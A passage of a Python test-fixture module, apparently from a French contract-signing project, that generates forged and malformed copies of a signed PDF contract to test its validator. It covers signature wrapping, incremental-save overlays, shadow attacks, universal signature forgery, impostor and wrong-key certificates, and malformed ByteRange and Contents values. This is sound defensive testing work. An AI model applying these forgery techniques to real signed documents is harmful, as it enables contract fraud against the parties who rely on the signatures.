"""Forged and malformed copies of a signed contract, one small generator per attack.

Each generator takes a :class:`Stage` — the copy as the last party signed it (``signed``), the
copy before that party signed (``previous``) and the keys (:class:`Keys`) — and returns the
bytes an attacker would mail back. :data:`CASES` lists every case with its class (the attack
classes of issue 14) and the stages where it applies; adding a case is adding one line there.

Files are written with pyHanko's incremental writer where a writer can express the attack; by
byte edits only where the attack IS a byte edit (signature wrapping, /Contents padding, bytes
after the last revision, values no writer would write, nesting deeper than any writer goes).
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, replace
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields as sig_fields
from pyhanko.sign.signers import PdfSignatureMetadata, PdfSigner, Signer, SimpleSigner
from pyhanko.stamp import TextStampStyle

from caqes_docs.parties import PARTIES, ROLES

FIELDS = {party.role.value: party.field for party in PARTIES}


@dataclass(frozen=True)
class Keys:
    """Signers the attacks use: the honest parties by role, the impostors by name."""

    parties: dict[str, Signer]
    impostors: dict[str, Signer]


@dataclass(frozen=True)
class Stage:
    """A copy after ``role`` signed (``signed``) and before (``previous``: issued for ETAB)."""

    role: str
    signed: bytes
    previous: bytes
    issued: bytes
    keys: Keys


Attack = Callable[[Stage], bytes]
Change = Callable[[IncrementalPdfFileWriter], None]


# --- writing helpers ------------------------------------------------------------------------------


def _writer(data: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(BytesIO(data), strict=False)


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def append(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """``data`` with one more revision made by ``change`` (pyHanko's incremental writer)."""
    writer = _writer(data)
    change(writer)
    return _written(writer)


def _name(value: str) -> generic.NameObject:
    return generic.NameObject(value)


def _numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(v) for v in values])


def _field_ref(writer: IncrementalPdfFileWriter, name: str) -> generic.IndirectObject:
    for ref in writer.root["/AcroForm"]["/Fields"]:
        if ref.get_object().get("/T") == name:
            return ref
    raise KeyError(name)


def sign_field(
    data: bytes,
    role: str,
    signer: Signer,
    *,
    change: Callable[[IncrementalPdfFileWriter], None] | None = None,
) -> bytes:
    """The attacker's own signing tool (pyHanko's library): ``role``'s field, certifying the
    first one as caqes does, with no check of what came before; ``change`` is made in the
    same revision as the signature."""
    writer = _writer(data)
    if change is not None:
        change(writer)
    metadata = PdfSignatureMetadata(
        field_name=FIELDS[role],
        subfilter=sig_fields.SigSeedSubFilter.PADES,
        certify=role == ROLES[0],
        docmdp_permissions=sig_fields.MDPPerm.FILL_FORMS,
    )
    out = BytesIO()
    PdfSigner(metadata, signer).sign_pdf(writer, existing_fields_only=True, output=out)
    return out.getvalue()


# --- what an attacker draws ------------------------------------------------------------------

AMOUNT = "Montant de l'intéressement : 1 000 000 EUR"


def overlay_page(writer: IncrementalPdfFileWriter, page: int = 0) -> None:
    """A white box drawn over the top of page ``page``, hiding its text (a content stream)."""
    stream = generic.StreamObject(stream_data=b"q 1 g 40 680 520 120 re f Q")
    writer.add_stream_to_page(page, writer.add_object(stream))


def replace_page_content(writer: IncrementalPdfFileWriter) -> None:
    """Page 1's content replaced by another text."""
    page_ref, _ = writer.find_page_for_modification(0)
    page = page_ref.get_object()
    stream = generic.StreamObject(stream_data=b"BT /F1 14 Tf 50 740 Td (Contrat resilie) Tj ET")
    page[_name("/Contents")] = writer.add_object(stream)
    writer.update_container(page)


def crop_page(writer: IncrementalPdfFileWriter) -> None:
    """Page 1's /CropBox cut at two thirds of its height: the top is no longer shown."""
    page_ref, _ = writer.find_page_for_modification(0)
    page_ref.get_object()[_name("/CropBox")] = _numbers(0, 0, 595, 540)
    writer.mark_update(page_ref)


def page_boxes(page: int, media_box: tuple[float, ...], rotate: int = 0) -> Change:
    """Page ``page``'s /MediaBox set to ``media_box`` (and /Rotate to ``rotate``), written
    anew as a tool that rewrites the page dictionary does."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, _ = writer.find_page_for_modification(page)
        page_dict = page_ref.get_object()
        page_dict[_name("/MediaBox")] = _numbers(*media_box)
        if rotate:
            page_dict[_name("/Rotate")] = generic.NumberObject(rotate)
        writer.mark_update(page_ref)

    return change


def cover_with_ars_field(writer: IncrementalPdfFileWriter) -> None:
    """The ARS's (unsigned) field moved over the text of its page, with a white appearance."""
    ref = _field_ref(writer, FIELDS["ARS"])
    widget = ref.get_object()
    widget[_name("/Rect")] = _numbers(40, 600, 560, 800)
    appearance = generic.StreamObject(
        {
            _name("/Type"): _name("/XObject"),
            _name("/Subtype"): _name("/Form"),
            _name("/BBox"): _numbers(0, 0, 520, 200),
        },
        stream_data=b"q 1 g 0 0 520 200 re f Q",
    )
    widget[_name("/AP")] = generic.DictionaryObject({_name("/N"): writer.add_object(appearance)})
    writer.mark_update(ref)


def enlarge_etab_widget(writer: IncrementalPdfFileWriter) -> None:
    """The establishment's own widget stretched over the text of its page: its appearance,
    drawn by the signing tool, then covers what the other parties read."""
    ref = _field_ref(writer, FIELDS["ETAB"])
    ref.get_object()[_name("/Rect")] = _numbers(40, 80, 560, 800)
    writer.mark_update(ref)


def new_page(writer: IncrementalPdfFileWriter) -> None:
    page = generic.DictionaryObject(
        {
            _name("/Type"): _name("/Page"),
            _name("/MediaBox"): _numbers(0, 0, 595, 842),
            _name("/Resources"): generic.DictionaryObject(),
        }
    )
    writer.insert_page(page)


def _annotation(writer: IncrementalPdfFileWriter, subtype: str, **extra: generic.PdfObject) -> None:
    annotation = generic.DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name(subtype),
            _name("/Rect"): _numbers(40, 680, 560, 800),
            _name("/F"): generic.NumberObject(4),
            **{_name(f"/{key}"): value for key, value in extra.items()},
        }
    )
    page_ref, _ = writer.find_page_for_modification(0)
    writer.register_annotation(page_ref, writer.add_object(annotation))


def free_text(writer: IncrementalPdfFileWriter) -> None:
    """A FreeText annotation: text drawn over the contract, white background."""
    _annotation(
        writer,
        "/FreeText",
        Contents=generic.pdf_string(AMOUNT),
        DA=generic.pdf_string("/Helv 14 Tf 0 g"),
        C=_numbers(1, 1, 1),
    )


def white_square(writer: IncrementalPdfFileWriter) -> None:
    """A Square annotation filled white: hides the top of page 1."""
    _annotation(writer, "/Square", IC=_numbers(1, 1, 1), C=_numbers(1, 1, 1))


# --- incremental saving, annotations, metadata --------------------------------------------------


def after(change: Callable[[IncrementalPdfFileWriter], None]) -> Attack:
    """An attack appending one revision made by ``change`` after the last signature."""
    return lambda stage: append(stage.signed, change)


def set_info(writer: IncrementalPdfFileWriter) -> None:
    info_ref = writer.trailer.raw_get("/Info")
    info = info_ref.get_object()
    info[_name("/Keywords")] = generic.pdf_string(
        "CAQES; reference=CAQES-NA-2026-330000340; finess_ej=330000340"
    )
    info[_name("/Title")] = generic.pdf_string("Contrat résilié")
    writer.mark_update(info_ref)


def set_xmp(writer: IncrementalPdfFileWriter) -> None:
    """The XMP packet replaced by one with another title."""
    packet = (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        '<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Contrat résilié</rdf:li></rdf:Alt>'
        "</dc:title>"
        "</rdf:Description></rdf:RDF></x:xmpmeta>"
        '<?xpacket end="w"?>'
    ).encode()
    stream = generic.StreamObject(
        {_name("/Type"): _name("/Metadata"), _name("/Subtype"): _name("/XML")}, stream_data=packet
    )
    writer.root[_name("/Metadata")] = writer.add_object(stream)
    writer.update_root()


def need_appearances(writer: IncrementalPdfFileWriter) -> None:
    """/NeedAppearances true: readers regenerate field appearances as they please."""
    writer.root["/AcroForm"][_name("/NeedAppearances")] = generic.BooleanObject(True)
    _mark(writer, writer.root.raw_get("/AcroForm"))


def with_dss(change: Change) -> Change:
    """``change`` smuggled into a revision that also adds a /DSS, as long-term validation
    updates do: the whole revision must be judged, not its look."""

    def both(writer: IncrementalPdfFileWriter) -> None:
        # A genuine entry: the first signer's certificate, as a validation update embeds it.
        certificate = writer.prev.embedded_signatures[0].signer_cert.dump()
        certificates = generic.ArrayObject(
            [writer.add_object(generic.StreamObject(stream_data=certificate))]
        )
        writer.root[_name("/DSS")] = generic.DictionaryObject({_name("/Certs"): certificates})
        writer.update_root()
        change(writer)

    return both


def unreferenced_object(writer: IncrementalPdfFileWriter) -> None:
    """A proper revision whose only new object nothing refers to."""
    writer.add_object(generic.StreamObject(stream_data=b"BT (Montant : 0 EUR) Tj ET"))


# --- field values no writer should produce ------------------------------------------------------


def field_value(value: Callable[[], generic.PdfObject], role: str | None = None) -> Attack:
    """The last signed field's /V (or ``role``'s field) replaced by ``value``."""

    def attack(stage: Stage) -> bytes:
        def change(writer: IncrementalPdfFileWriter) -> None:
            ref = _field_ref(writer, FIELDS[role or stage.role])
            ref.get_object()[_name("/V")] = value()
            writer.mark_update(ref)

        return append(stage.signed, change)

    return attack


# --- byte edits on the last signature ------------------------------------------------------------

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


@dataclass(frozen=True)
class _Range:
    """The last signature's /ByteRange [0 a b c] and where its text lies in the file."""

    a: int
    b: int
    c: int
    start: int
    end: int


def last_byte_range(data: bytes) -> _Range:
    matches = list(_BYTE_RANGE.finditer(data))
    match = max(matches, key=lambda m: int(m.group(2)))
    _, a, b, c = (int(g) for g in match.groups())
    return _Range(a, b, c, match.start(), match.end())


def _in_place(data: bytes, start: int, end: int, text: bytes) -> bytes:
    """Replace ``data[start:end]`` by ``text``, taking spaces that follow if it is longer."""
    room = end
    while room < len(data) and data[room : room + 1] == b" ":
        room += 1
    if len(text) > room - start:
        raise ValueError("pas de place pour la nouvelle valeur")
    return data[:start] + text.ljust(room - start) + data[room:]


def contents_padding(stage: Stage) -> bytes:
    """Non-zero bytes in the zero padding at the end of the last signature's /Contents."""
    byte_range = last_byte_range(stage.signed)
    hex_end = byte_range.b - 1  # the ">" closing the hex string
    payload = b"Montant : 0 EUR".hex().upper().encode()
    start = hex_end - len(payload) - 2
    assert set(stage.signed[start:hex_end]) <= set(b"0"), "no zero padding to write into"
    return stage.signed[:start] + payload + stage.signed[start + len(payload) :]


def byte_range_value(text: bytes) -> Attack:
    """The last signature's /ByteRange written as ``text`` (null, strings...)."""

    def attack(stage: Stage) -> bytes:
        byte_range = last_byte_range(stage.signed)
        return _in_place(stage.signed, byte_range.start, byte_range.end, b"/ByteRange " + text)

    return attack


def strings_byte_range(stage: Stage) -> bytes:
    r = last_byte_range(stage.signed)
    text = b"[(0)(%d)(%d)(%d)]" % (r.a, r.b, r.c)
    return _in_place(stage.signed, r.start, r.end, b"/ByteRange " + text)


def trailing(extra: bytes) -> Attack:
    """Bytes appended after the last %%EOF, no revision linking them."""
    return lambda stage: stage.signed + extra


def _last_startxref(data: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def unlinked_update(stage: Stage) -> bytes:
    """A whole revision (overlay on page 1) whose startxref still names the previous xref:
    nothing links to it, a reader that looks for the last xref table finds it anyway."""
    updated = append(stage.signed, overlay_page)
    previous = _last_startxref(stage.signed)
    head, _, tail = updated.rpartition(b"startxref")
    return head + b"startxref" + re.sub(rb"\d+", str(previous).encode(), tail, count=1)


def big_stream(stage: Stage) -> bytes:
    """A 2 MB stream object appended, unreferenced (the issue saw 200 MB archived; the size
    only has to dwarf the 70 KB contract, and each test pays for reading it)."""
    body = b"0" * (2 << 20)
    number = 99999
    return stage.signed + b"\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        number,
        len(body),
        body,
    )


def _serialised(value: generic.PdfObject) -> bytes:
    out = BytesIO()
    value.write_to_stream(out)
    return out.getvalue()


def hand_revision(
    data: bytes,
    objects: dict[tuple[int, int], bytes] | None = None,
    freed: tuple[tuple[int, int], ...] = (),
) -> bytes:
    """``data`` with one more revision written by hand: ``objects`` ((number, generation) →
    body) and ``freed`` objects (marked free in the xref table, generation + 1)."""
    reader = PdfFileReader(BytesIO(data), strict=False)
    body, entries = b"", []
    for (number, generation), content in (objects or {}).items():
        offset = len(data) + len(body) + 1
        body += b"\n%d %d obj\n%s\nendobj\n" % (number, generation, content)
        entries.append((number, b"%010d %05d n " % (offset, generation)))
    entries += [(number, b"%010d %05d f " % (0, generation + 1)) for number, generation in freed]
    table = b"".join(b"%d 1\n%s\n" % (number, entry) for number, entry in sorted(entries))
    trailer = generic.DictionaryObject(
        {k: v for k, v in reader.trailer_view.items() if k in ("/Root", "/Info", "/ID", "/Size")}
    )
    trailer[_name("/Prev")] = generic.NumberObject(_last_startxref(data))
    xref_at = len(data) + len(body)
    return (
        data
        + body
        + b"xref\n%strailer\n%s\nstartxref\n%d\n%%%%EOF\n"
        % (
            table,
            _serialised(trailer),
            xref_at,
        )
    )


def deep_nesting(depth: int = 100_000) -> Attack:
    """A revision giving the last signed field a /V nested ``depth`` arrays deep.

    No writer nests that deep (pyHanko's recursion stops it): the revision is written by hand,
    the field's dictionary serialised by pyHanko with a marker where the nesting goes.
    """

    def attack(stage: Stage) -> bytes:
        reader = PdfFileReader(BytesIO(stage.signed), strict=False)
        ref = next(
            r
            for r in reader.root["/AcroForm"]["/Fields"]
            if r.get_object()["/T"] == FIELDS[stage.role]
        )
        field_dict = generic.DictionaryObject(ref.get_object())
        field_dict[_name("/V")] = _name("/CaqesNesting")
        nested = b"[" * depth + b"]" * depth
        body = _serialised(field_dict).replace(b"/CaqesNesting", nested)
        return hand_revision(stage.signed, {(ref.idnum, ref.generation): body})

    return attack


def free_page_content(stage: Stage) -> bytes:
    """A revision that only marks page 1's content stream free: the page shows blank. No
    writer frees an object on purpose; the xref table is written by hand."""
    reader = PdfFileReader(BytesIO(stage.signed), strict=False)
    page = reader.root["/Pages"]["/Kids"][0]
    contents = page.raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        contents = contents.raw_get(0)
    return hand_revision(stage.signed, freed=((contents.idnum, contents.generation),))


def skip_signed_revisions(stage: Stage) -> bytes:
    """An overlay revision whose /Prev points to the issued revision's xref, skipping every
    signature: the signed revisions stay in the file, unreachable."""
    updated = append(stage.signed, overlay_page)
    issued_xref = _last_startxref(stage.issued)
    head, _, tail = updated.rpartition(b"/Prev")
    return head + b"/Prev" + re.sub(rb"\d+", str(issued_xref).encode(), tail, count=1)


def open_action(writer: IncrementalPdfFileWriter) -> None:
    """A JavaScript action run when the document opens (the catalog's /OpenAction)."""
    action = generic.DictionaryObject(
        {
            _name("/S"): _name("/JavaScript"),
            _name("/JS"): generic.pdf_string("app.alert('Contrat résilié');"),
        }
    )
    writer.root[_name("/OpenAction")] = writer.add_object(action)
    writer.update_root()


def repoint_signature(stage: Stage) -> bytes:
    """The last signed field's /V pointed at a copy of its signature dictionary (same
    /Contents, same /ByteRange, so the same signed bytes) in a revision that also puts an
    overlay on page 1."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        ref = _field_ref(writer, FIELDS[stage.role])
        field_dict = ref.get_object()
        copy = generic.DictionaryObject(field_dict["/V"])
        field_dict[_name("/V")] = writer.add_object(copy)
        writer.mark_update(ref)
        overlay_page(writer)

    return append(stage.signed, change)


# --- signature wrapping -------------------------------------------------------------------------


def wrap_signature(stage: Stage) -> bytes:
    """Signature wrapping (Mladenov et al., 2019), as byte edits.

    The signed bytes are kept whole but the part after /Contents is moved to the end of the
    file; the room it leaves holds the end of the signature dictionary with a /ByteRange that
    points to the moved part, an overlay on page 1 and a new xref table placed exactly where
    the last revision's startxref (signed, unchanged) points. The hash of the ranges is the
    signed one; what a reader shows is the attacker's.
    """
    data = stage.signed
    r = last_byte_range(data)
    part1, contents, part2 = data[: r.a], data[r.a : r.b], data[r.b : r.b + r.c]
    xref_offset = _last_startxref(data)
    if not r.b <= xref_offset < r.b + r.c or not part2[xref_offset - r.b :].startswith(b"xref"):
        raise ValueError("the last revision has no classic xref table after the signature")
    within = xref_offset - r.b  # where the xref table starts, counted from the end of /Contents
    old_xref, _, old_trailer = part2[within:].partition(b"trailer")
    old_entries = _xref_entries(old_xref)
    sig_end = part2.index(b"endobj") + len(b"endobj")

    # The attacker's objects: an overlay stream and page 1 with it.
    reader = PdfFileReader(BytesIO(data), strict=False)
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    while "/Kids" in page_ref.get_object():
        page_ref = page_ref.get_object()["/Kids"].raw_get(0)
    size = int(reader.trailer_view["/Size"])
    page = generic.DictionaryObject(page_ref.get_object())
    contents_value = page.raw_get("/Contents")
    existing = (
        list(contents_value)
        if isinstance(contents_value, generic.ArrayObject)
        else [contents_value]
    )
    page[_name("/Contents")] = generic.ArrayObject(
        [*existing, generic.IndirectObject(size, 0, reader)]
    )
    page_bytes = BytesIO()
    page.write_to_stream(page_bytes)
    overlay = b"q 1 g 40 680 520 120 re f Q"

    def insert_for(moved: int) -> bytes:
        new_range = b"/ByteRange [0 %d %d %d]" % (r.a, r.b + moved, r.c)
        tail = part2[:sig_end]
        range_at = _BYTE_RANGE.search(tail)
        assert range_at is not None
        tail = (
            tail[: range_at.start()]
            + new_range.ljust(range_at.end() - range_at.start())
            + tail[range_at.end() :]
        )
        objects = {}
        body = bytearray(tail)
        objects[page_ref.idnum] = (r.b + len(body) + 1, page_ref.generation)
        body += b"\n%d %d obj\n%s\nendobj\n" % (
            page_ref.idnum,
            page_ref.generation,
            page_bytes.getvalue(),
        )
        objects[size] = (r.b + len(body), 0)
        body += b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
            size,
            len(overlay),
            overlay,
        )
        if len(body) > within:
            raise ValueError("not enough room before the signed xref offset")
        body += b" " * (within - len(body))
        # The signature revision's other objects now lie in the moved part.
        entries = {
            num: (off + moved if off >= r.b else off, gen)
            for num, (off, gen) in old_entries.items()
        }
        entries.update(objects)
        trailer = re.sub(
            rb"/Size\s+\d+", b"/Size %d" % (size + 1), old_trailer.split(b"startxref")[0]
        )
        return bytes(body) + _xref_table(entries) + b"trailer" + trailer

    moved = len(insert_for(0))
    insert = insert_for(moved)
    while len(insert) != moved:  # offsets with more digits: settle the length
        moved = len(insert)
        insert = insert_for(moved)
    return part1 + contents + insert + part2


def _xref_entries(table: bytes) -> dict[int, tuple[int, int]]:
    entries: dict[int, tuple[int, int]] = {}
    lines = table.split(b"\n")[1:]
    number = 0
    for line in (line.strip() for line in lines):
        parts = line.split()
        if len(parts) == 2:
            number = int(parts[0])
        elif len(parts) == 3:
            if parts[2] == b"n":
                entries[number] = (int(parts[0]), int(parts[1]))
            number += 1
    return entries


def _xref_table(entries: dict[int, tuple[int, int]]) -> bytes:
    lines = [b"xref"]
    for number in sorted(entries):
        offset, generation = entries[number]
        lines.append(b"%d 1\n%010d %05d n " % (number, offset, generation))
    return b"\n".join(lines) + b"\n"


# --- universal signature forgery ------------------------------------------------------------------


def forge_signature_dict(edit: Callable[[generic.DictionaryObject], None]) -> Attack:
    """Universal signature forgery: a revision after the last signature rewrites its signature
    dictionary (``edit``) and puts an overlay on page 1, hoping that a validator skips a
    signature whose values it cannot use instead of refusing it."""

    def attack(stage: Stage) -> bytes:
        def change(writer: IncrementalPdfFileWriter) -> None:
            field = _field_ref(writer, FIELDS[stage.role]).get_object()
            sig_ref = field.raw_get("/V")
            edit(sig_ref.get_object())
            writer.mark_update(sig_ref)
            overlay_page(writer)

        return append(stage.signed, change)

    return attack


def _without(key: str) -> Callable[[generic.DictionaryObject], None]:
    return lambda sig: sig.pop(key, None)  # type: ignore[func-returns-value]


def _setting(
    key: str, value: Callable[[], generic.PdfObject]
) -> Callable[[generic.DictionaryObject], None]:
    def edit(sig: generic.DictionaryObject) -> None:
        sig[_name(key)] = value()

    return edit


# --- shadow attacks: prepared before the first signature, revealed after -----------------------


def _text_field(
    writer: IncrementalPdfFileWriter, name: str, rect: tuple[float, ...], shown: bytes
) -> None:
    """A text field whose widget shows ``shown`` (a content stream) over page 1."""
    page_ref, _ = writer.find_page_for_modification(0)
    appearance = generic.StreamObject(
        {
            _name("/Type"): _name("/XObject"),
            _name("/Subtype"): _name("/Form"),
            _name("/BBox"): _numbers(0, 0, rect[2] - rect[0], rect[3] - rect[1]),
        },
        stream_data=shown,
    )
    widget = generic.DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Widget"),
            _name("/FT"): _name("/Tx"),
            _name("/T"): generic.pdf_string(name),
            _name("/Rect"): _numbers(*rect),
            _name("/F"): generic.NumberObject(4),
            _name("/P"): page_ref,
            _name("/AP"): generic.DictionaryObject({_name("/N"): writer.add_object(appearance)}),
        }
    )
    ref = writer.add_object(widget)
    writer.register_annotation(page_ref, ref)
    form = writer.root["/AcroForm"]
    form["/Fields"].append(ref)
    _mark(writer, form.raw_get("/Fields"))
    _mark(writer, writer.root.raw_get("/AcroForm"))


def _mark(writer: IncrementalPdfFileWriter, value: generic.PdfObject) -> None:
    """Write ``value`` again: itself when it is an object of its own, else the catalog."""
    if isinstance(value, generic.IndirectObject):
        writer.mark_update(value)
    else:
        writer.update_root()


SHADOW_FIELD = "commentaire"
_WHITE_BOX = b"q 1 g 0 0 520 120 re f Q"
_EMPTY = b""


def _fill_shadow_field(shown: bytes) -> Reveal:
    """Form filling, as DocMDP P=2 allows: the shadow field's value and appearance change."""

    def change(writer: IncrementalPdfFileWriter, _: int) -> None:
        ref = _field_ref(writer, SHADOW_FIELD)
        widget = ref.get_object()
        widget[_name("/V")] = generic.pdf_string("modifié")
        appearance = generic.StreamObject(
            {
                _name("/Type"): _name("/XObject"),
                _name("/Subtype"): _name("/Form"),
                _name("/BBox"): _numbers(0, 0, 520, 120),
            },
            stream_data=shown,
        )
        widget[_name("/AP")] = generic.DictionaryObject(
            {_name("/N"): writer.add_object(appearance)}
        )
        writer.mark_update(ref)

    return change


def _signed_through(data: bytes, stage: Stage) -> bytes:
    """``data`` (a prepared issued copy) signed by every party up to ``stage.role``."""
    for role in ROLES[: ROLES.index(stage.role) + 1]:
        data = sign_field(data, role, stage.keys.parties[role])
    return data


Reveal = Callable[[IncrementalPdfFileWriter, int], None]


def shadow(prepare: Callable[[IncrementalPdfFileWriter], None], reveal: Reveal | None) -> Attack:
    """Shadow attack: ``prepare`` changes the issued file before the first signature (a
    revision of its own), the parties sign up to the stage, then ``reveal`` (if any) is
    appended; it is given the number of the last object ``prepare`` added."""

    def attack(stage: Stage) -> bytes:
        prepared = append(stage.issued, prepare)
        last_object = int(PdfFileReader(BytesIO(prepared), strict=False).trailer_view["/Size"]) - 1
        signed = _signed_through(prepared, stage)
        if reveal is None:
            return signed
        return append(signed, lambda writer: reveal(writer, last_object))

    return attack


def _cover(shown: bytes) -> Callable[[IncrementalPdfFileWriter], None]:
    """Prepared: the shadow text field over the top of page 1, showing ``shown``."""
    return lambda writer: _text_field(writer, SHADOW_FIELD, (40, 680, 560, 800), shown)


_OTHER_AMOUNT = _WHITE_BOX + b" BT /Helv 14 Tf 10 60 Td (Montant : 0 EUR) Tj ET"
shadow_hide = shadow(_cover(_WHITE_BOX), _fill_shadow_field(_EMPTY))
"""Hide: a white field covers the text while the parties sign, then is emptied."""
shadow_replace = shadow(_cover(_EMPTY), _fill_shadow_field(_OTHER_AMOUNT))
"""Replace: an empty field is filled afterwards with another amount over the text."""


def hide_and_replace(writer: IncrementalPdfFileWriter) -> None:
    """Prepared: a second page 1 (another content), unreferenced while the parties sign; added
    last, so that it is the prepared revision's last object."""
    page_ref, _ = writer.find_page_for_modification(0)
    page = generic.DictionaryObject(page_ref.get_object())
    page[_name("/Contents")] = writer.add_object(
        generic.StreamObject(stream_data=b"BT /F1 14 Tf 50 740 Td (Contrat resilie) Tj ET")
    )
    writer.add_object(page)


def reveal_hidden_page(writer: IncrementalPdfFileWriter, hidden_number: int) -> None:
    """Reveal: page 1 replaced in the page tree by the prepared, hidden one."""
    pages_ref = writer.root.raw_get("/Pages")
    pages = pages_ref.get_object()
    kids = pages["/Kids"]
    kids[0] = generic.IndirectObject(hidden_number, 0, writer)
    writer.mark_update(pages_ref)


def in_revision_of(culprit: str, change: Callable[[IncrementalPdfFileWriter], None]) -> Attack:
    """The parties sign in turn from the issued file; ``culprit``'s tool also makes ``change``
    in the very revision of its signature."""

    def attack(stage: Stage) -> bytes:
        data = stage.issued
        for role in ROLES[: ROLES.index(stage.role) + 1]:
            made = change if role == culprit else None
            data = sign_field(data, role, stage.keys.parties[role], change=made)
        return data

    return attack


def in_signature_revision(change: Callable[[IncrementalPdfFileWriter], None]) -> Attack:
    """The first party's tool changes the document in the very revision of its signature."""
    return in_revision_of(ROLES[0], change)


def wipe_etab_appearance(writer: IncrementalPdfFileWriter) -> None:
    """The establishment's signed widget given an empty appearance: its signature vanishes
    from the page."""
    ref = _field_ref(writer, FIELDS["ETAB"])
    empty = generic.StreamObject(
        {
            _name("/Type"): _name("/XObject"),
            _name("/Subtype"): _name("/Form"),
            _name("/BBox"): _numbers(0, 0, 1, 1),
        },
        stream_data=b"",
    )
    ref.get_object()[_name("/AP")] = generic.DictionaryObject(
        {_name("/N"): writer.add_object(empty)}
    )
    writer.mark_update(ref)


# --- sneaky signature, impostors ----------------------------------------------------------------


def sneaky_signature(stage: Stage) -> bytes:
    """A new signature field over page 1's text, signed by the CPAM's key, whose appearance
    writes another amount: a signature P=2 lets no one add."""
    metadata = PdfSignatureMetadata(
        field_name="Signature-ajout", subfilter=sig_fields.SigSeedSubFilter.PADES
    )
    spec = sig_fields.SigFieldSpec("Signature-ajout", on_page=0, box=(40, 680, 560, 800))
    style = TextStampStyle(stamp_text=AMOUNT, border_width=0)
    out = BytesIO()
    PdfSigner(
        metadata, stage.keys.parties["CPAM"], stamp_style=style, new_field_spec=spec
    ).sign_pdf(_writer(stage.signed), output=out)
    return out.getvalue()


def impostor(name: str) -> Attack:
    """``stage.role``'s field signed by impostor ``name`` (a key of :attr:`Keys.impostors`)."""
    return lambda stage: sign_field(
        stage.previous, stage.role, stage.keys.impostors[f"{name}:{stage.role}"]
    )


def other_party(stage: Stage) -> bytes:
    """``stage.role``'s field signed with another party's key and certificate."""
    other = ROLES[(ROLES.index(stage.role) + 1) % len(ROLES)]
    return sign_field(stage.previous, stage.role, stage.keys.parties[other])


def certificate_with_wrong_key(stage: Stage) -> bytes:
    """The party's own certificate in the CMS, the signature made by another party's key."""
    honest = stage.keys.parties[stage.role]
    other = stage.keys.parties[ROLES[(ROLES.index(stage.role) + 1) % len(ROLES)]]
    assert isinstance(honest, SimpleSigner) and isinstance(other, SimpleSigner)
    forged = SimpleSigner(
        signing_cert=honest.signing_cert,
        signing_key=other.signing_key,
        cert_registry=honest.cert_registry,
    )
    return sign_field(stage.previous, stage.role, forged)


# --- the cases ----------------------------------------------------------------------------------


def both_ways(case: Case) -> list[Case]:
    """``case`` with the issued record beside the copy, and without it (received by mail)."""
    return [case, replace(case, record=False)]


@dataclass(frozen=True)
class Case:
    """One generated attack: its class (issue 14), name, generator, where it applies."""

    kind: str
    name: str
    make: Attack
    stages: tuple[str, ...] = ROLES
    record: bool = True
    """Whether the issued record (.emission.json) lies beside the attacked copy."""

    @property
    def id(self) -> str:
        return f"{self.kind}/{self.name}" + ("" if self.record else "/sans-fiche")


ISA = "sauvegarde-incrementale"
SWA = "enveloppement-signature"
USF = "falsification-universelle"
SHADOW = "shadow"
EAA = "annotation-malveillante"
SSA = "signature-sournoise"
APPENDED = "octets-non-signes"
METADATA = "metadonnees-apres-signature"
PADDING = "remplissage-contents"
MALFORMED = "valeurs-malformees"
IMPOSTOR = "certificat-imposteur"

CASES: list[Case] = [
    Case(ISA, "surimpression-page-1", after(overlay_page)),
    Case(ISA, "contenu-page-1-remplace", after(replace_page_content)),
    Case(ISA, "page-ajoutee", after(new_page)),
    Case(ISA, "cropbox-reduite", after(crop_page)),
    Case(ISA, "apparence-etab-effacee", after(wipe_etab_appearance)),
    Case(ISA, "surimpression-revision-cpam", in_revision_of("CPAM", overlay_page), ROLES[1:]),
    Case(
        ISA,
        "apparence-etab-effacee-revision-cpam",
        in_revision_of("CPAM", wipe_etab_appearance),
        ROLES[1:],
    ),
    Case(ISA, "surimpression-revision-ars", in_revision_of("ARS", overlay_page), ROLES[2:]),
    Case(ISA, "champ-ars-deplace-sur-le-texte", after(cover_with_ars_field), ("ETAB", "CPAM")),
    Case(SWA, "byterange-deplace", wrap_signature),
    Case(USF, "contents-absent", forge_signature_dict(_without("/Contents"))),
    Case(
        USF,
        "contents-vide",
        forge_signature_dict(_setting("/Contents", lambda: generic.ByteStringObject(b""))),
    ),
    Case(USF, "byterange-absent", forge_signature_dict(_without("/ByteRange"))),
    Case(USF, "byterange-null", forge_signature_dict(_setting("/ByteRange", generic.NullObject))),
    Case(
        USF,
        "byterange-zero",
        forge_signature_dict(
            _setting("/ByteRange", lambda: generic.ArrayObject([generic.NumberObject(0)] * 4))
        ),
    ),
    *both_ways(Case(SHADOW, "masquer", shadow_hide)),
    *both_ways(Case(SHADOW, "remplacer", shadow_replace)),
    *both_ways(Case(SHADOW, "masquer-et-remplacer", shadow(hide_and_replace, reveal_hidden_page))),
    *both_ways(Case(SHADOW, "surimpression-avant-signature", shadow(overlay_page, None))),
    *both_ways(
